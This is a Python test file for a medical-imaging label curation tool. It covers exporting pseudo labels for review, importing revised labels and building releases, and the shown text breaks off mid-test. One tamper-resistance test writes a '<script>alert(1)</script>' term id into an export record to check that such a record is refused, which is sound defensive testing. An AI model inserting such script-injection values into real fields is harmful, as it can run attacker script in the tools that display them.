"""Review loop + release assembly: revised labels come back, originals are never touched."""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import nibabel as nib
import numpy as np
import pyarrow.parquet as pq
import pytest

from curator.pseudolabel.release import assembled_label_map, assembled_mask
from curator.pseudolabel.review import export_review
from curator.pseudolabel.review_import import import_review
from curator.pseudolabel.stage import PseudolabelStage
from curator.release.build import build_release
from curator.runner.run import run_stage
from curator.store import CaseStore
from tests.pseudolabel.conftest import CASES


def _layer_digest(store: Path, layer: str) -> str:
    h = hashlib.sha256()
    for p in sorted((store / "labels" / layer).rglob("*")):
        if p.is_file():
            h.update(p.relative_to(store).as_posix().encode())
            h.update(p.read_bytes())
    return h.hexdigest()


def test_review_round_trip_and_priority(phantom_ws, tmp_path: Path) -> None:
    ctx, _ = phantom_ws()
    ws = ctx.workspace
    stores = sorted(ws.stores_dir.glob("*.zarr"))
    before = {s.name: _layer_digest(s, "original") for s in stores}
    run_stage(ctx, PseudolabelStage)
    att = ws.read_table("attention").to_pylist()

    out = tmp_path / "review"
    res = export_review(ws.root, att, out, top=2, images=False)
    assert len(res.cases) == 2 and res.previews >= 2
    with open(out / "worklist.csv", newline="") as f:
        work = list(csv.DictReader(f))
    assert [w["case_id"] for w in work] == res.cases
    assert [int(w["review_rank"]) for w in work] == [1, 2]
    png = next((out / res.cases[0]).glob("preview_*.png"))
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"

    # a reviewer erases the liver of the first case and keeps the rest
    cid = res.cases[0]
    pseudo = nib.load(out / cid / "pseudo.nii.gz")
    data = np.asarray(pseudo.dataobj).copy()
    store = CaseStore(ws.stores_dir / f"{cid}.zarr")
    liver_code = next(int(c) for c, ts in json.loads((out / cid / "codes.json").read_text()).items()
                      if ts == ["liver"])  # the export's code, not the store's
    data[data == liver_code] = 0
    nib.save(nib.Nifti1Image(data, pseudo.affine), out / cid / "revised.nii.gz")
    # the reviewer's instructions, and the codes as ITK-SNAP and 3D Slicer colour tables
    assert "revised.nii.gz" in (out / "README.txt").read_text() and "codes.json" in (out / "README.txt").read_text()
    snap = (out / cid / "labels_itksnap.txt").read_text().splitlines()
    assert any(line.split()[0] == str(liver_code) and line.endswith('"liver"') for line in snap if line[:1] == " ")
    slicer = [line.split() for line in (out / cid / "labels_slicer.txt").read_text().splitlines() if line[:1] != "#"]
    assert [str(liver_code), "liver"] in [row[:2] for row in slicer] and all(len(row) == 6 for row in slicer)
    # a bad revision: wrong grid
    bad = res.cases[1]
    nib.save(nib.Nifti1Image(np.zeros((3, 3, 3), np.uint8), np.eye(4)), out / bad / "revised.nii.gz")

    done, problems = import_review(ws, out)
    assert done == [cid]
    assert [p["case_id"] for p in problems] == [bad] and problems[0]["kind"] == "revised_label_invalid"
    store = CaseStore(ws.stores_dir / f"{cid}.zarr")
    assert store.layers() == ["original", "revised", "pseudo"]
    mask, layer = assembled_mask(store, "liver")
    assert layer == "revised" and not mask.any()
    spleen_or_pancreas = store.terms("original")[0]
    assert assembled_mask(store, spleen_or_pancreas)[1] == "original"
    lmap = assembled_label_map(store, [spleen_or_pancreas, "aorta"])
    assert np.array_equal(lmap == 1, store.mask(spleen_or_pancreas, "original"))

    release = build_release(ctx)
    labels = pq.read_table(release / "labels.parquet").to_pylist()
    keyed = {(r["case_id"], r["term_id"]): r["origin"] for r in labels}
    assert keyed[(cid, "liver")] == "revised"
    assert len(keyed) == len(labels), "one row per (case, term) after assembly"
    other = next(s.stem for s in stores if s.stem not in (cid, bad))
    assert keyed[(other, "liver")] == "pseudo"
    assert not any(o == "pseudo" and t in CaseStore(ws.stores_dir / f"{c}.zarr").terms("original")
                   for (c, t), o in keyed.items())
    after = {s.name: _layer_digest(s, "original") for s in stores}
    assert after == before, "the original label layers changed"

    # the ranking is unchanged after an import: a second export hands the case reviewed in part
    # out again for its flagged structures not reviewed yet — with its revision to start from,
    # never its pseudo label (a second import would undo the review)
    again = export_review(ws.root, att, tmp_path / "review2", top=2, images=False)
    assert again.reviewed == [] and again.partial == [cid] and cid in again.cases
    start = np.asarray(nib.load(tmp_path / "review2" / cid / "revised.nii.gz").dataobj)
    assert np.array_equal(start, data)
    with open(tmp_path / "review2" / "worklist.csv", newline="") as f:
        left = {w["case_id"]: w["to_review"].split(";") for w in csv.DictReader(f)}[cid]
    assert "liver" not in left and left
    more = export_review(ws.root, att, tmp_path / "review3", top=2, images=False, include_reviewed=True)
    assert cid in more.cases
    edit = np.asarray(nib.load(tmp_path / "review3" / cid / "revised.nii.gz").dataobj)
    assert np.array_equal(edit, data) and not (edit == liver_code).any()  # the revision, not the pseudo label
    with open(tmp_path / "review3" / "worklist.csv", newline="") as f:
        assert {w["case_id"]: w["reviewed"] for w in csv.DictReader(f)}[cid] == "True"


def test_export_is_deterministic(phantom_ws, tmp_path: Path) -> None:
    ctx, _ = phantom_ws()
    run_stage(ctx, PseudolabelStage)
    att = ctx.workspace.read_table("attention").to_pylist()
    a, b = tmp_path / "a", tmp_path / "b"
    export_review(ctx.workspace.root, att, a, top=1, images=False)
    export_review(ctx.workspace.root, att, b, top=1, images=False)
    assert (a / "worklist.csv").read_bytes() == (b / "worklist.csv").read_bytes()
    shutil.rmtree(a)


def test_review_image_is_in_physical_units(tmp_path: Path) -> None:
    """A store kept in scaled units (stored × scale = HU) is exported to reviewers in HU."""
    from curator.pseudolabel.review import _write_editable
    from curator.testing.segmodels import write_phantom_store

    store = write_phantom_store(tmp_path / "c.zarr", 5, {"liver": 1}, normalisation={"scale": 0.5})
    store.write_layer("pseudo", [(store.read("labels/original/0"), {1: ["spleen"]})], {"origin": "pseudo"})
    _write_editable(CaseStore(store.path), tmp_path / "out", images=True)
    got = np.asarray(nib.load(tmp_path / "out" / "image.nii.gz").dataobj)
    assert np.allclose(got, store.read("image").astype(np.float32) * 0.5)
    assert np.array_equal(np.asarray(nib.load(tmp_path / "out" / "pseudo.nii.gz").dataobj),
                          store.read("labels/original/0"))


@pytest.mark.parametrize("flip_x", [False, True])
def test_previews_are_radiological_whatever_the_store_axes(flip_x: bool) -> None:
    """The patient's right is on the viewer's left and anterior is up, as in the report's gallery."""
    from curator.pseudolabel.review_preview import preview

    nx, ny = 40, 30
    direction = np.diag([-1.0 if flip_x else 1.0, 1.0, 1.0])  # RAS store, or LAS (x towards the left)
    right_x = 0 if flip_x else nx - 1  # the array index on the patient's right
    label = np.zeros((nx, ny), bool)
    label[min(right_x, nx - 5):max(right_x + 1, 5), ny - 5:] = True  # right and anterior corner
    img = np.asarray(preview(np.zeros((nx, ny)), label, np.zeros((nx, ny), bool), "CT", scale=1,
                             direction=direction))
    green = (img[..., 1] > 100) & (img[..., 0] < 100)
    rows, cols = np.nonzero(green)
    assert img.shape[:2] == (ny, nx)
    assert cols.max() < nx // 2, "the patient's right is on the viewer's left"
    assert rows.max() < ny // 2, "anterior is up"


def test_a_preview_shows_the_label_under_its_attention() -> None:
    """The review README promises a green label and red attention; a filled red over the label
    showed only red and orange where attention covered it (it usually does)."""
    from curator.pseudolabel.review_preview import preview

    label = np.zeros((40, 30), bool)
    label[10:30, 8:22] = True
    attention = np.zeros_like(label)
    attention[5:35, 4:26] = True  # covers the whole label
    img = np.asarray(preview(np.full((40, 30), 40.0), label, attention, "CT", scale=1)).astype(int)
    green = (img[..., 1] > img[..., 0] + 60)
    red = (img[..., 0] > 200) & (img[..., 1] < 80)
    assert green.sum() == label.sum()  # every label pixel still reads as green
    assert red.sum() == 2 * (30 + 22) - 4  # the outline of the 30 x 22 attention block


def test_review_selection_refuses_counts_and_shares_that_cannot_be_meant() -> None:
    from curator.errors import ConfigError
    from curator.pseudolabel.review import select_cases

    rows = [{"review_rank": i, "case_id": f"c{i}", "case_attention_size": 1.0, "review": i == 1} for i in (1, 2, 3)]
    assert select_cases(rows, None, 2) == ["c1", "c2"] and select_cases(rows, 0.34, None) == ["c1", "c2"]
    for fraction, top in ((None, -1), (None, 0), (5.0, None), (0.0, None), (0.5, 2)):  # both: which one?
        with pytest.raises(ConfigError):
            select_cases(rows, fraction, top)


def _import_half_erased(phantom_ws, tmp_path: Path):
    """A workspace whose top review case came back with half of every pseudo label erased."""
    ctx, _ = phantom_ws()
    ws = ctx.workspace
    run_stage(ctx, PseudolabelStage)
    out = tmp_path / "review"
    cid = export_review(ws.root, ws.read_table("attention").to_pylist(), out, top=1, images=False).cases[0]
    pseudo = nib.load(out / cid / "pseudo.nii.gz")
    data = np.asarray(pseudo.dataobj).copy()
    data[: data.shape[0] // 2] = 0
    nib.save(nib.Nifti1Image(data, pseudo.affine), out / cid / "revised.nii.gz")
    assert import_review(ws, out)[0] == [cid]
    return ctx, ws.stores_dir / f"{cid}.zarr"


def _rebuild_coarser(path: Path) -> list[tuple[str, str]]:
    """Rebuild the store ``path`` as preprocess does on a new target spacing — twice the spacing,
    the same origin: new voxel i is old voxel 2i — carrying its review over; the notes said."""
    from curator.io.volume import Geometry
    from curator.preprocess.stage import _carry_revised, _keep_revised

    old = CaseStore(path)
    g = old.geometry
    m = g.matrix.copy()
    m[:3, :3] *= 2
    coarse = Geometry.from_affine(tuple((n + 1) // 2 for n in g.shape), m)
    notes: list[tuple[str, str]] = []
    _keep_revised(path, lambda err, severity="warning": notes.append((err.kind, severity)))
    CaseStore.create(path, geometry=coarse, attrs={k: v for k, v in old.attrs.items() if k not in ("affine", "shape")},
                     image=np.asarray(old.image[...])[::2, ::2, ::2], labels=[(np.zeros(coarse.shape, np.uint8), {})])
    _carry_revised(path, lambda err, severity: notes.append((err.kind, severity)))
    return notes


def test_reviewed_labels_survive_a_store_rebuild(phantom_ws, tmp_path: Path) -> None:
    """Preprocess rebuilding a store (e.g. a new target spacing) carries the imported review onto
    the new grid (nearest neighbour in physical space) and says so."""
    from curator.pseudolabel.review_records import revised_copy_path

    _, path = _import_half_erased(phantom_ws, tmp_path)
    assert revised_copy_path(path).is_file()
    old = CaseStore(path)
    terms = old.terms("revised")
    before = {t: old.mask(t, "revised") for t in terms}
    assert terms and any(m.any() for m in before.values())
    notes = _rebuild_coarser(path)
    new = CaseStore(path)
    assert new.terms("revised") == terms and notes == [("revised_label_resampled", "info")]
    for t in terms:
        assert np.array_equal(new.mask(t, "revised"), before[t][::2, ::2, ::2])


def test_a_review_folder_exported_before_a_store_rebuild_says_so_and_keeps_the_earlier_import(
        phantom_ws, tmp_path: Path) -> None:
    """The same folder imported again after preprocess rebuilt the store on a new grid was
    refused as "header declares (…) voxels, over max_voxels … save the revision on the grid of
    pseudo.nii.gz" — its pseudo.nii.gz is on that grid — and the error row reached the release,
    which held the case's revised labels (carried over). Imported again unchanged it is a no-op;
    edited, it is refused as exported before the rebuild, a warning: the earlier import is kept."""
    from curator.pseudolabel.review_import import record_import_problems

    ctx, path = _import_half_erased(phantom_ws, tmp_path)
    ws, cid, out = ctx.workspace, path.stem, tmp_path / "review"
    other = export_review(ws.root, ws.read_table("attention").to_pylist(), tmp_path / "other", top=2,
                          images=False).cases[-1]  # exported, never imported
    shutil.copy(tmp_path / "other" / other / "pseudo.nii.gz", tmp_path / "other" / other / "revised.nii.gz")
    _rebuild_coarser(path)
    _rebuild_coarser(ws.stores_dir / f"{other}.zarr")
    layer = _layer_digest(path, "revised")
    unchanged: dict[str, str] = {}
    done, problems = import_review(ws, out, unchanged)
    assert done == [] and problems == [] and list(unchanged) == [cid]
    assert "the one imported already" in unchanged[cid] and "before the store was rebuilt" in unchanged[cid]
    assert "--include-reviewed" in unchanged[cid] and _layer_digest(path, "revised") == layer
    record_import_problems(ws, [*done, *unchanged], problems)
    assert ws.read_table("problems__review").num_rows == 0

    pseudo = nib.load(out / cid / "revised.nii.gz")  # edited again, in the folder of the old grid
    data = np.asarray(pseudo.dataobj).copy()
    data[data.shape[0] // 2:] = 0
    nib.save(nib.Nifti1Image(data, pseudo.affine), out / cid / "revised.nii.gz")
    done, problems = import_review(ws, out)
    assert done == [] and [(p["kind"], p["severity"]) for p in problems] == [("review_export_stale", "warning")]
    msg = problems[0]["message"]
    assert "exported before the store was rebuilt on a new grid" in msg and "max_voxels" not in msg
    assert "earlier import of this case is kept" in msg and "--include-reviewed" in msg
    assert _layer_digest(path, "revised") == layer
    record_import_problems(ws, done, problems)
    release = build_release(ctx)
    rows = [p for p in pq.read_table(release / "problems.parquet").to_pylist() if p["stage"] == "review"]
    assert [(p["case_id"], p["severity"]) for p in rows] == [(cid, "warning")]
    labels = pq.read_table(release / "labels.parquet").to_pylist()
    assert any(r["case_id"] == cid and r["origin"] == "revised" for r in labels)

    done, problems = import_review(ws, tmp_path / "other")  # no earlier import to keep: an error
    assert done == [] and [(p["kind"], p["severity"]) for p in problems] == [("review_export_stale", "error")]
    assert "earlier import" not in problems[0]["message"]


def test_a_reviewed_label_missing_from_its_store_is_not_released(phantom_ws, tmp_path: Path) -> None:
    """A store rebuilt without the workspace's copy of the review (an older curator): the release
    drops the reviewed rows (the pseudo label stands) and says why, instead of listing them as used."""
    import shutil

    from curator.pseudolabel.review_records import revised_copy_path

    ctx, path = _import_half_erased(phantom_ws, tmp_path)
    cid, terms = path.stem, CaseStore(path).terms("revised")
    shutil.rmtree(path / "labels" / "revised")
    revised_copy_path(path).unlink()
    release = build_release(ctx)
    labels = pq.read_table(release / "labels.parquet").to_pylist()
    assert not [r for r in labels if r["case_id"] == cid and r["origin"] == "revised"]
    lost = [p for p in pq.read_table(release / "problems.parquet").to_pylist() if p["kind"] == "revised_label_lost"]
    assert sorted(p["message"].split("reviewed ")[1].split(" ")[0] for p in lost) == sorted(terms)


def _exported(phantom_ws, out: Path, top: int = 3) -> tuple[Any, list[str]]:  # type: ignore[no-untyped-def]
    """A phantom workspace after pseudolabel, and the cases of a review export of its ``top``."""
    ctx, _ = phantom_ws()
    run_stage(ctx, PseudolabelStage)
    res = export_review(ctx.workspace.root, ctx.workspace.read_table("attention").to_pylist(), out, top=top,
                        images=False)
    return ctx.workspace, res.cases


def _paint(folder: Path, value: int) -> None:
    """Save ``folder``'s pseudo label with a 3³ corner set to ``value`` as its revision (int16)."""
    pseudo = nib.load(folder / "pseudo.nii.gz")
    data = np.asarray(pseudo.dataobj).astype(np.int16)
    data[:3, :3, :3] = value
    nib.save(nib.Nifti1Image(data, pseudo.affine), folder / "revised.nii.gz")


def _revise(folder: Path, start: str = "pseudo.nii.gz") -> None:
    """Save ``folder``'s ``start`` label with the first half (along x) of every structure erased
    as its revision: a real edit (a label saved unchanged imports nothing)."""
    img = nib.load(folder / start)
    data = np.asarray(img.dataobj).copy()
    data[: data.shape[0] // 2] = 0
    nib.save(nib.Nifti1Image(data, img.affine), folder / "revised.nii.gz")


def test_a_revision_with_values_or_codes_the_export_did_not_write_is_refused(phantom_ws, tmp_path: Path) -> None:
    """257 in an int16 revision wrapped to code 1 (another term) in uint8; -1 was reported as 255;
    a code added to codes.json brought any term id into the release."""
    import json

    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out)
    wrap, negative, new_code = cases[:3]
    for cid, value in ((wrap, 257), (negative, -1)):
        _paint(out / cid, value)
    _paint(out / new_code, 99)
    codes = json.loads((out / new_code / "codes.json").read_text())
    (out / new_code / "codes.json").write_text(json.dumps({**codes, "99": ["not_a_term"]}))
    done, problems = import_review(ws, out)
    assert done == []
    why = {p["case_id"]: p["message"] for p in problems}
    assert "values [257] are not in codes.json" in why[wrap]
    assert "values [-1] are not in codes.json" in why[negative]
    assert "99: ['not_a_term'], not a code of the case's pseudo labels" in why[new_code]
    assert all("revised" not in CaseStore(ws.stores_dir / f"{c}.zarr").layers() for c in cases[:3])


def test_a_refusal_stays_in_problems_review_until_its_case_imports(phantom_ws, tmp_path: Path) -> None:
    """Each import rewrote problems__review with its own rows only: a later import of other cases
    made the earlier refusals vanish, though those cases still had no revised layer."""
    from curator.pseudolabel.review_import import record_import_problems

    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out)
    fixed, still_bad, untouched = cases[:3]
    for cid in (fixed, still_bad):
        _paint(out / cid, 300)  # no code of codes.json
    record_import_problems(ws, *import_review(ws, out))
    assert {p["case_id"] for p in ws.read_table("problems__review").to_pylist()} == {fixed, still_bad}
    _revise(out / fixed)  # corrected
    (out / still_bad / "revised.nii.gz").unlink()  # not in this round
    done, problems = import_review(ws, out)
    assert done == [fixed] and problems == []
    record_import_problems(ws, done, problems)
    rows = ws.read_table("problems__review").to_pylist()
    assert [p["case_id"] for p in rows] == [still_bad] and untouched not in {p["case_id"] for p in rows}


def test_a_refusal_of_a_folder_that_is_no_case_goes_once_the_folder_is_gone(phantom_ws, tmp_path: Path) -> None:
    """A case folder renamed (refused: not a case), then renamed back and imported: the refusal of
    the renamed folder stayed in problems__review for good — no import could ever clear it — and
    reached every release."""
    from curator.pseudolabel.review_import import record_import_problems

    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out)
    cid = cases[0]
    _revise(out / cid)
    renamed = out / f"{cid} (reviewed)"
    (out / cid).rename(renamed)
    record_import_problems(ws, *import_review(ws, out))
    assert {p["case_id"] for p in ws.read_table("problems__review").to_pylist()} == {renamed.name}
    renamed.rename(out / cid)
    done, problems = import_review(ws, out)
    assert done == [cid] and problems == []
    assert record_import_problems(ws, done, problems) == []
    assert ws.read_table("problems__review").num_rows == 0


def test_only_the_terms_a_reviewer_edited_become_revised_labels(phantom_ws, tmp_path: Path) -> None:
    """Every code of revised.nii.gz became a revised (person's) label, the untouched pseudo
    pancreas too: it then joined QC's reference cohorts and outranked pseudo labels."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    cid = cases[0]
    codes = {int(c): ts for c, ts in json.loads((out / cid / "codes.json").read_text()).items()}
    liver = next(c for c, ts in codes.items() if ts == ["liver"])
    pseudo = nib.load(out / cid / "pseudo.nii.gz")
    data = np.asarray(pseudo.dataobj).copy()
    data[data == liver] = 0  # the reviewer erases the liver and leaves the rest
    nib.save(nib.Nifti1Image(data, pseudo.affine), out / cid / "revised.nii.gz")
    done, problems = import_review(ws, out)
    assert done == [cid] and problems == []
    rows = ws.read_table("_labels_revised").to_pylist()
    assert [(r["case_id"], r["term_id"], r["present"]) for r in rows] == [(cid, "liver", False)]
    assert set(CaseStore(ws.stores_dir / f"{cid}.zarr").terms("revised")) <= {"liver"}
    # exported again, the revision shows the other terms' pseudo labels, as the reviewer left them
    again = tmp_path / "again"
    export_review(ws.root, ws.read_table("attention").to_pylist(), again, top=1, images=False, include_reviewed=True)
    assert np.array_equal(np.asarray(nib.load(again / cid / "revised.nii.gz").dataobj), data)


def _repseudo(store_path: Path) -> None:
    """What a re-run of pseudolabel does to a store: new pseudo labels (here each one grown by a voxel
    along x), same codes."""
    store = CaseStore(store_path)
    plane, values = next(iter(store.planes("pseudo")))
    old = np.asarray(plane[...])
    new = old.copy()
    new[1:][(old[1:] == 0) & (old[:-1] > 0)] = old[:-1][(old[1:] == 0) & (old[:-1] > 0)]
    assert not np.array_equal(new, old)
    store.write_layer("pseudo", [(new, values)], {"origin": "pseudo"})


def test_a_pseudolabel_re_run_between_export_and_import_revises_only_what_the_reviewer_changed(
        phantom_ws, tmp_path: Path) -> None:
    """Import judged "left as exported" against the store's pseudo layer as it was at import: after
    pseudolabel re-ran, every code the reviewer never touched became a revised (person's) label."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    cid = cases[0]
    codes = {int(c): ts for c, ts in json.loads((out / cid / "codes.json").read_text()).items()}
    assert len(codes) > 1
    liver = next(c for c, ts in codes.items() if ts == ["liver"])
    pseudo = nib.load(out / cid / "pseudo.nii.gz")
    data = np.asarray(pseudo.dataobj).copy()
    data[data == liver] = 0  # the reviewer erases the liver and leaves the rest as exported
    nib.save(nib.Nifti1Image(data, pseudo.affine), out / cid / "revised.nii.gz")
    _repseudo(ws.stores_dir / f"{cid}.zarr")
    done, problems = import_review(ws, out)
    assert done == [cid] and problems == []
    assert CaseStore(ws.stores_dir / f"{cid}.zarr").terms("revised") == ["liver"]
    assert [r["term_id"] for r in ws.read_table("_labels_revised").to_pylist()] == ["liver"]


def test_a_case_folder_renamed_to_another_case_is_refused(phantom_ws, tmp_path: Path) -> None:
    """A revision in a folder renamed to another case's name (same grid) was imported into that case."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=2)
    first, second = cases
    others = [c for c, _, _ in CASES if c not in cases]
    _paint(out / first, 0)
    (out / first).rename(out / others[0])  # a case this export did not write
    _paint(out / second, 0)
    (out / second).rename(out / f"{second} (reviewed)")
    done, problems = import_review(ws, out)
    assert done == []
    why = {p["case_id"]: p["message"] for p in problems}
    assert f"exported as case {first!r}" in why[others[0]] and f"rename the folder back to {first}" in why[others[0]]
    assert f"exported as case {second!r}" in why[f"{second} (reviewed)"]
    assert all("revised" not in CaseStore(ws.stores_dir / f"{c}.zarr").layers() for c, _, _ in CASES)
    # a listed case folder whose record is gone is refused, not compared with the store
    (out / f"{second} (reviewed)").rename(out / second)
    (out / second / "export.json").unlink()
    done, problems = import_review(ws, out)
    assert second not in done and "export.json" in {p["case_id"]: p["message"] for p in problems}[second]


def test_a_reviewed_case_exported_again_keeps_its_earlier_revision_of_what_the_reviewer_left(
        phantom_ws, tmp_path: Path) -> None:
    """With --include-reviewed the README and the worklist sent the reviewer to pseudo.nii.gz; saving
    an edit of it as revised.nii.gz threw the earlier revision of every other structure away."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    cid = cases[0]
    codes = {int(c): ts for c, ts in json.loads((out / cid / "codes.json").read_text()).items()}
    liver = next(c for c, ts in codes.items() if ts == ["liver"])
    other = next(c for c, ts in codes.items() if c != liver)
    pseudo = nib.load(out / cid / "pseudo.nii.gz")
    first = np.asarray(pseudo.dataobj).copy()
    first[first == liver] = 0  # round 1: the liver erased
    nib.save(nib.Nifti1Image(first, pseudo.affine), out / cid / "revised.nii.gz")
    assert import_review(ws, out)[0] == [cid]

    again = tmp_path / "again"
    export_review(ws.root, ws.read_table("attention").to_pylist(), again, top=1, images=False, include_reviewed=True)
    with open(again / "worklist.csv", newline="") as f:
        row = next(w for w in csv.DictReader(f) if w["case_id"] == cid)
    assert row["open_label"] == f"{cid}/revised.nii.gz"
    readme = (again / "README.txt").read_text()
    assert f"  {cid}\n" in readme and "open revised.nii.gz" in readme
    # (a) the exported revision imported untouched changes nothing: it is the one imported already
    store = CaseStore(ws.stores_dir / f"{cid}.zarr")
    before = {t: store.mask(t, "revised") for t in store.terms("revised")}
    unchanged: dict[str, str] = {}
    assert import_review(ws, again, unchanged) == ([], []) and list(unchanged) == [cid]
    store = CaseStore(ws.stores_dir / f"{cid}.zarr")
    assert {t: store.mask(t, "revised") for t in store.terms("revised")}.keys() == before.keys()
    assert all(np.array_equal(store.mask(t, "revised"), m) for t, m in before.items())
    # (b) the reviewer opens pseudo.nii.gz instead and edits another structure only
    second = np.asarray(nib.load(again / cid / "pseudo.nii.gz").dataobj).copy()
    idx = np.argwhere(second == other)
    second[tuple(idx[: len(idx) // 2].T)] = 0
    nib.save(nib.Nifti1Image(second, pseudo.affine), again / cid / "revised.nii.gz")
    assert import_review(ws, again)[0] == [cid]
    store = CaseStore(ws.stores_dir / f"{cid}.zarr")
    assert sorted(store.terms("revised")) == sorted(["liver", *codes[other]])
    assert not store.mask("liver", "revised").any(), "the round-1 revision of the liver was kept"
    assert np.array_equal(store.mask(codes[other][0], "revised"), second == other)


def test_re_exporting_into_a_folder_keeps_a_revision_not_imported_yet(phantom_ws, tmp_path: Path) -> None:
    """A second export into the same folder overwrote a reviewer's saved revised.nii.gz; an export
    into a release's folder wrote into it."""
    from curator.errors import ConfigError

    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    cid = cases[0]
    att = ws.read_table("attention").to_pylist()
    _revise(out / cid)
    saved = (out / cid / "revised.nii.gz").read_bytes()
    export_review(ws.root, att, out, top=2, images=False)  # same labels: the revision stays, still importable
    assert (out / cid / "revised.nii.gz").read_bytes() == saved
    assert import_review(ws, out)[0] == [cid]
    # round 2 of the reviewed case, saved but not imported, then the folder is exported again
    export_review(ws.root, att, tmp_path / "r2", top=1, images=False, include_reviewed=True)
    _paint(tmp_path / "r2" / cid, 0)
    edit = (tmp_path / "r2" / cid / "revised.nii.gz").read_bytes()
    export_review(ws.root, att, tmp_path / "r2", top=2, images=False, include_reviewed=True)
    assert (tmp_path / "r2" / cid / "revised.nii.gz").read_bytes() == edit
    _repseudo(ws.stores_dir / f"{cid}.zarr")  # the labels changed: the record would change under the revision
    with pytest.raises(ConfigError, match=f"{cid} hold a revision not imported yet"):
        export_review(ws.root, att, tmp_path / "r2", top=2, images=False, include_reviewed=True)
    assert (tmp_path / "r2" / cid / "revised.nii.gz").read_bytes() == edit
    # a release folder, or any other folder that holds something else, is refused
    (tmp_path / "rel" / "review").mkdir(parents=True)
    (tmp_path / "rel" / "release.json").write_text("{}")
    (tmp_path / "misc").mkdir()
    (tmp_path / "misc" / "notes.txt").write_text("x")
    for target, says in ((tmp_path / "rel" / "review", "part of a release"), (tmp_path / "misc", "not empty")):
        with pytest.raises(ConfigError, match=says):
            export_review(ws.root, att, target, top=1, images=False)
        assert not (target / "worklist.csv").exists()


def test_a_revision_saved_under_another_name_is_read_or_reported(phantom_ws, tmp_path: Path) -> None:
    """revised.nii (uncompressed) and revised.seg.nrrd (3D Slicer's default) were skipped without a
    word while the other cases imported."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=4)
    nii, slicer, copy, both = cases
    for cid in cases:
        _revise(out / cid)
    nib.save(nib.load(out / nii / "revised.nii.gz"), out / nii / "revised.nii")  # an uncompressed NIfTI
    (out / nii / "revised.nii.gz").unlink()
    (out / slicer / "revised.nii.gz").rename(out / slicer / "revised.seg.nrrd")
    (out / copy / "revised.nii.gz").rename(out / copy / "revised (1).nii.gz")
    shutil.copy(out / both / "revised.nii.gz", out / both / "revised.nii")
    done, problems = import_review(ws, out)
    assert done == [nii] and "revised" in CaseStore(ws.stores_dir / f"{nii}.zarr").layers()
    why = {p["case_id"]: p["message"] for p in problems}
    assert "3D Slicer segmentation" in why[slicer] and "labels_slicer.txt" in why[slicer]
    assert "'revised (1).nii.gz' is not a name import reads" in why[copy]
    assert "several revisions (revised.nii, revised.nii.gz)" in why[both]


def test_a_revision_declaring_more_voxels_than_its_grid_is_refused_before_it_is_read(phantom_ws,
                                                                                    tmp_path: Path) -> None:
    """A revision comes from outside: a few kB of .nii.gz could declare gigabytes, read whole
    before its grid was compared. No more voxels than the case's grid are read."""
    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    pseudo = nib.load(out / cases[0] / "pseudo.nii.gz")
    big = np.zeros(tuple(2 * s for s in pseudo.shape), np.uint8)
    big[0, 0, 0] = 1
    nib.save(nib.Nifti1Image(big, pseudo.affine), out / cases[0] / "revised.nii.gz")
    done, problems = import_review(ws, out)
    assert done == [] and problems[0]["kind"] == "revised_label_invalid"
    # said as the smaller grid is, in shapes (it named curator's internal max_voxels)
    assert "not on the case's grid (shape (80, 64, 40) vs (40, 32, 20)" in problems[0]["message"]
    assert "max_voxels" not in problems[0]["message"]
    assert "revised" not in CaseStore(ws.stores_dir / f"{cases[0]}.zarr").layers()


def test_an_export_record_rewritten_outside_does_not_bring_other_codes_or_terms_in(phantom_ws, tmp_path: Path) -> None:
    """A reviewer holds export.json and each case's record: with the record's checksum a plain
    SHA-256, a code for any term id (`<script>`, a term of no taxonomy) was added to codes.json,
    the record and the export's listing, and imported as a revised label. The checksums are keyed
    with the workspace's secret key now: a record rewritten outside the workspace is refused."""
    from curator.pseudolabel.review_records import RECORD, record_digest

    out = tmp_path / "review"
    ws, cases = _exported(phantom_ws, out, top=1)
    folder = out / cases[0]
    _paint(folder, 99)
    evil = ["<script>alert(1)</script>"]
    codes = json.loads((folder / "codes.json").read_text())
    (folder / "codes.json").write_text(json.dumps({**codes, "99": evil}))
    record = json.loads((folder / RECORD).read_text())
    record["codes"] = {**record["codes"], "99": evil}
    (folder / RECORD).write_text(json.dumps(record, indent=1, sort_keys=True) + "\n")
    manifest = json.loads((out / RECORD).read_text())
    plain = hashlib.sha256(json.dumps(record, sort_keys=True).encode()).hexdigest()[:32]  # what a reviewer can compute
    manifest["cases"][cases[0]] = plain
    (out / RECORD).write_text(json.dumps(manifest))
    done, problems = import_review(ws, out)
    assert done == [] and "is not the one this export wrote" in problems[0]["message"]
    assert "revised" not in CaseStore(ws.stores_dir / f"{cases[0]}.zarr").layers()
    assert record_digest(record, ws.key) != plain


def _accept(out: Path, cells: dict[str, str], delimiter: str = ",") -> None:
    """Fill worklist.csv's accept column as a reviewer does (a spreadsheet may save with ';')."""
    with open(out / "worklist.csv", newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        cols, rows = list(reader.fieldnames or []), list(reader)
    for r in rows:
        r["accept"] = cells.get(r["case_id"], r["accept"])
    with open(out / "worklist.csv", "w", newline="", encoding="utf-8-sig") as f:
        w = csv.DictWriter(f, fieldnames=cols, delimiter=delimiter)
        w.writeheader()
        w.writerows(rows)


def test_a_reviewer_accepts_pseudo_labels_as_correct_and_the_release_keeps_them(phantom_ws, tmp_path: Path) -> None:
    """A pseudo label saved unchanged as revised.nii.gz ("looks right") stayed origin pseudo, was
    counted as a revised case, wrote an empty revised layer that kept the case off every later
    worklist, and a model swap then replaced the label the reviewer had approved. Now saving it
    unchanged imports nothing and says how to accept; worklist.csv's accept column makes the
    labels as exported reviewed labels (origin revised), which a pseudolabel re-run leaves alone."""
    out = tmp_path / "review"
    ctx, _ = phantom_ws()
    ws = ctx.workspace
    run_stage(ctx, PseudolabelStage)
